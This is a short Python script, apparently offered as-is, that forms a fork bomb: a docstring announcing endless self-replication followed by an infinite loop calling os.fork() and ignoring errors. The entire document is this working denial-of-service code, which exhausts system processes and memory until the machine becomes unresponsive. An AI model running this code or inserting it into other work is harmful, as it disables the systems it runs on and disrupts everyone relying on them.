"""Every process starts as many as it can, for ever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
